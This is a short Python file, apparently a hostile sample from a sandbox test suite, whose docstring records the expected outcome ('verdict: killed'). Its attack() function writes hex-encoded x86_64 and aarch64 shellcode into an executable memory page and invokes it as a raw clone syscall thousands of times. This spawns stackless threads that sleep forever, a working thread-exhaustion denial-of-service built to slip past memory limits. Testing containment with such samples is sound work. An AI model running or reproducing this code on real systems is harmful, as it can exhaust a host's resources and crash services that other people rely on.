"""Keeps threads by the thousand that have no stack and take no memory of their own, but of the machine's numbers.

stopped by: watch
verdict: killed
limits: cpu_s=1 memory_mb=64
"""

import ctypes
import mmap
import time

FLAGS = 0x10F00 | 0x40000  # threads: memory, files, signal handlers shared
# clone; in the thread it makes: wait for ever, over and over
CODE = {
    "x86_64": "b838000000 0f05 85c0 7401 c3 b822000000 0f05 ebf7",
    "aarch64": "881b80d2 010000d4 400000b4 c0035fd6 000080d2 010080d2 020080d2 030080d2 280980d2 010000d4 faffff17",
}


def attack(decoys):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex(CODE[decoys["machine"]]))
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    clone = ctypes.CFUNCTYPE(ctypes.c_int, *[ctypes.c_ulong] * 5)(address)
    for _ in range(3000):
        if clone(FLAGS, 0, 0, 0, 0) < 0:
            raise OSError("no more threads")
    time.sleep(1)
    return True
